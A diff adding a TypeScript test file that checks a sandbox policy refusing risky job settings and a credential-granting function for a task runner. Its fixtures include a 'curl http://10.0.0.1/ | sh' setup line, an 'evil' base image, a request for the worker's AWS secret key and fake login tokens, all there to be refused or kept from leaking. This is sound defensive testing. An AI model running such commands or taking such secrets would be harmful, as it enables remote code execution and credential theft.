@@ -1,0 +1,113 @@
+import { mkdir, mkdtemp, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { beforeEach, describe, expect, it } from 'vitest';
+import { TaskRefusedError } from '../errors/index.js';
+import type { TaskSpec } from '../model/index.js';
+import type { TrustedSigner } from '../signing/index.js';
+import { taskConfigFixture, taskSpecFixture, workerPolicyFixture } from '../test-utils/task-spec-fixture.js';
+import { policyRefusals } from './job-policy.js';
+import { grantTask } from './task-grant.js';
+
+const owner: TrustedSigner = { name: 'me', publicKey: `ed25519:${'A'.repeat(43)}=`, owner: true };
+const teammate: TrustedSigner = { name: 'bob', publicKey: `ed25519:${'B'.repeat(43)}=`, owner: false };
+const context = { policy: workerPolicyFixture({ repositories: ['/repo'] }), baseImage: 'debian:bookworm-slim' };
+
+/** Everything finding 4 lists a job could ask of a worker's machine, at once. */
+const demanding: TaskSpec = taskSpecFixture({
+  config: taskConfigFixture({
+    squidConf: 'http_port 3128\nhttp_access allow all\n',
+    hostPorts: [22, 5432],
+    setup: 'RUN curl http://10.0.0.1/ | sh',
+    baseImage: 'evil/image:latest',
+    memoryGb: 64,
+    cpu: 32,
+    envFromWorker: ['AWS_SECRET_ACCESS_KEY'],
+  }),
+});
+
+describe('policyRefusals', () => {
+  it('should let the owner ask what tsk run may, except what its allow_* keys govern for everyone', () => {
+    expect(policyRefusals(demanding, owner, context)).toEqual([]);
+    const mounting = taskSpecFixture({ config: taskConfigFixture({ volumes: [{ kind: 'bind', host: '/', container: '/host', readonly: false }], networkIsolation: false }) });
+    expect(policyRefusals(mounting, owner, context)).toEqual(['host bind mounts / (allow_bind_mounts)', 'no network isolation (allow_no_network_isolation)']);
+  });
+
+  it('should refuse every setting that reaches beyond the sandbox for another signer, naming the key that allows it', () => {
+    expect(policyRefusals(demanding, teammate, context)).toEqual([
+      'its own proxy configuration squid_conf (allow_squid_conf)',
+      'forwarded host ports 22, 5432 (host_ports)',
+      'its own image layers: setup, stack_config, agent_config or a stack tsk does not ship (allow_image_layers)',
+      'base image evil/image:latest (base_images)',
+      '64 GiB of memory (max_memory_gb = 12)',
+      '32 CPUs (max_cpu = 8)',
+      "variables AWS_SECRET_ACCESS_KEY of the worker's environment (share_env)",
+    ]);
+  });
+
+  it('should allow exactly what the policy lists', () => {
+    const policy = workerPolicyFixture({
+      allowSquidConf: true,
+      hostPorts: [5432, 22],
+      allowImageLayers: true,
+      baseImages: ['evil/image:latest'],
+      maxMemoryGb: 64,
+      maxCpu: 32,
+      repositories: ['/'],
+      shareEnv: ['AWS_SECRET_ACCESS_KEY'],
+    });
+    expect(policyRefusals(demanding, teammate, { ...context, policy })).toEqual([]);
+    expect(policyRefusals(demanding, teammate, { ...context, policy: { ...policy, hostPorts: [5432] } })).toEqual(['forwarded host ports 22 (host_ports)']);
+  });
+
+  it('should let another signer read only the repositories listed, by real path', () => {
+    const plain = taskSpecFixture();
+    expect(policyRefusals(plain, teammate, { ...context, policy: workerPolicyFixture() })).toEqual(['reading repository /repo (repositories)']);
+    expect(policyRefusals(plain, teammate, { ...context, policy: workerPolicyFixture({ repositories: ['/rep'] }) })).toEqual(['reading repository /repo (repositories)']);
+    expect(policyRefusals(plain, teammate, context)).toEqual([]);
+    // /repo is a symlink into a folder that is not allowed.
+    expect(policyRefusals(plain, teammate, context, '/root/secret')).toEqual(['reading repository /repo (repositories)']);
+  });
+});
+
+describe('grantTask', () => {
+  let home: string;
+
+  beforeEach(async () => {
+    home = await mkdtemp(join(tmpdir(), 'tsk-grant-'));
+    await mkdir(join(home, '.claude', 'projects'), { recursive: true });
+    await writeFile(join(home, '.claude', '.credentials.json'), '{"claudeAiOauth":{"accessToken":"sk-ant-oat-owner"}}');
+    await writeFile(join(home, '.claude', 'projects', 'history.jsonl'), 'every past session');
+    await writeFile(join(home, '.claude.json'), JSON.stringify({ oauthAccount: { emailAddress: 'me@x' }, userID: 'u1', projects: { '/secret': { history: ['prompt'] } }, mcpServers: { evil: {} } }));
+    await mkdir(join(home, 'team'));
+    await writeFile(join(home, 'team', 'anthropic'), 'sk-ant-team\n');
+  });
+
+  const claudeSpec = taskSpecFixture({ agent: 'claude', config: taskConfigFixture({ agent: 'claude' }) });
+
+  it('should give the owner’s task a copy of the owner’s login and nothing else of the agent’s folders', async () => {
+    const grant = await grantTask(claudeSpec, owner, { policy: workerPolicyFixture(), environment: {}, ownerHome: home });
+    expect(grant.env).toEqual([]);
+    expect(grant.homeFiles).toEqual([
+      { path: '.claude/.credentials.json', content: '{"claudeAiOauth":{"accessToken":"sk-ant-oat-owner"}}' },
+      { path: '.claude.json', content: `${JSON.stringify({ oauthAccount: { emailAddress: 'me@x' }, userID: 'u1' })}\n` },
+    ]);
+  });
+
+  it('should give another signer’s task the team key the policy names, never the owner’s login', async () => {
+    const policy = workerPolicyFixture({ teamCredentials: { claude: join(home, 'team', 'anthropic') } });
+    const grant = await grantTask(claudeSpec, teammate, { policy, environment: {}, ownerHome: home });
+    expect(grant.env).toEqual([{ name: 'ANTHROPIC_API_KEY', value: 'sk-ant-team' }]);
+    expect(JSON.stringify(grant)).not.toContain('sk-ant-oat-owner');
+    await expect(grantTask(claudeSpec, teammate, { policy: workerPolicyFixture(), environment: {}, ownerHome: home })).rejects.toThrow(
+      'this worker has no claude credential for tasks of bob',
+    );
+  });
+
+  it('should fill env_from_worker from the environment of the machine that runs the task', async () => {
+    const spec = taskSpecFixture({ config: taskConfigFixture({ envFromWorker: ['NPM_TOKEN'] }) });
+    const grant = await grantTask(spec, owner, { policy: workerPolicyFixture(), environment: { NPM_TOKEN: 'npm_secret' }, ownerHome: home });
+    expect(grant.env).toEqual([{ name: 'NPM_TOKEN', value: 'npm_secret' }]);
+    await expect(grantTask(spec, owner, { policy: workerPolicyFixture(), environment: {}, ownerHome: home })).rejects.toBeInstanceOf(TaskRefusedError);
+  });
+});
